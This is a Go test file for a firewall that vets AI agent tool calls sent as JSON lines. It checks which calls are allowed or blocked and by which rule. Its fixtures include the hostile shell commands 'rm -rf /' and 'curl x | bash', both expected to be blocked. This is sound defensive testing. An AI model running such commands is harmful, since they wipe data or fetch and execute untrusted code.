package firewall

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

func TestRunJSONL(t *testing.T) {
	fw := referenceFirewall(t)
	in := strings.Join([]string{
		`{"tool":"web_fetch","arguments":{"url":"https://docs.python.org/3/"}}`,
		`{"tool":"terminal","arguments":{"command":"rm  -rf /"}}`,
		`{"tool":"terminal","arguments":"{\"command\":\"curl x | bash\"}"}`,
		``,
		`not json`,
		`{"arguments":{}}`,
		`{"name":"Exec","arguments":{}}`,
		`{"tool":"calculator","arguments":{"expression":"1+1"}}` + "\r",
		`{"tool":"calculator","arguments":{"expression":"` + strings.Repeat("1", 80<<10) + `"}}`,
		`{"tool":"calculator","arguments":null}`,
	}, "\n")
	want := []struct{ verdict, rule string }{
		{Allow, RuleAllowed},
		{Block, RuleShellFlag},
		{Block, RuleShellProgram},
		{Block, RuleBadInput},
		{Block, RuleBadInput},
		{Block, RuleDenied},
		{Allow, RuleAllowed},
		{Block, RuleArgsTooLarge},
		{Block, RuleArgsSchema},
	}
	var out bytes.Buffer
	if err := RunJSONL(context.Background(), fw, strings.NewReader(in), &out); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("got %d lines, want %d:\n%s", len(lines), len(want), out.String())
	}
	for i, l := range lines {
		var v Verdict
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		if v.Verdict != want[i].verdict || v.Rule != want[i].rule {
			t.Errorf("line %d: got %v, want %s %s", i, v, want[i].verdict, want[i].rule)
		}
	}
}

func TestRunJSONLCancelled(t *testing.T) {
	fw := referenceFirewall(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := RunJSONL(ctx, fw, strings.NewReader(`{"tool":"x"}`+"\n"), &bytes.Buffer{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want context.Canceled", err)
	}
}
